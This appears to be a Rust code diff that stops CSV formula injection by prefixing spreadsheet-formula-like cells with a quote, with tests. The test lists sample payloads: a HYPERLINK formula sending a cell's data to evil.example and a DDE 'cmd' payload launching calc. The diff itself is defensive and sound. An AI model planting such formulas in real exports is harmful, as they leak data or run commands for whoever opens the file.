@@ -272,10 +272,23 @@ impl Reader {
     }
 }
 
-/// A CSV cell: text as it is, nothing for null or absent, JSON for the rest.
+/// Whether a spreadsheet would run `text` as a formula. A phone number or any other
+/// number (`+1 201 555 0123`, `-4.5`) is a value to it, and stays as it is.
+fn reads_as_formula(text: &str) -> bool {
+    let numeric = text
+        .chars()
+        .all(|c| c.is_ascii_digit() || matches!(c, '+' | '-' | '.' | ' ' | '(' | ')'));
+    text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !numeric
+}
+
+/// A CSV cell: text as it is, nothing for null or absent, JSON for the rest. Text a
+/// spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return: a visitor's name on a public form, an inbound message) is led by `'`,
+/// so that opening the export runs nothing.
 fn cell(value: Option<&Value>) -> Cow<'_, [u8]> {
     match value {
         None | Some(Value::Null) => Cow::Borrowed(b""),
+        Some(Value::String(text)) if reads_as_formula(text) => Cow::Owned(format!("'{text}").into_bytes()),
         Some(Value::String(text)) => Cow::Borrowed(text.as_bytes()),
         Some(other) => Cow::Owned(other.to_string().into_bytes()),
     }
@@ -293,6 +306,18 @@ mod tests {
         assert_eq!(&*cell(Some(&json!("Ada, \"the first\""))), b"Ada, \"the first\"");
         assert_eq!(&*cell(Some(&json!(["vip", "lead"]))), b"[\"vip\",\"lead\"]");
         assert_eq!(&*cell(Some(&json!(3))), b"3");
+    }
+
+    #[test]
+    fn formulas_are_neutralised_and_numbers_kept() {
+        let formula = "=HYPERLINK(\"https://evil.example/?\"&C2,\"Open\")";
+        assert_eq!(&*cell(Some(&json!(formula))), format!("'{formula}").as_bytes());
+        for text in ["@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd", "\t=1"] {
+            assert_eq!(&*cell(Some(&json!(text))), format!("'{text}").as_bytes(), "{text}");
+        }
+        for text in ["+12015550123", "+1 (201) 555-0123", "-4.5", "Ada = Lovelace"] {
+            assert_eq!(&*cell(Some(&json!(text))), text.as_bytes(), "{text}");
+        }
     }
 
     #[test]
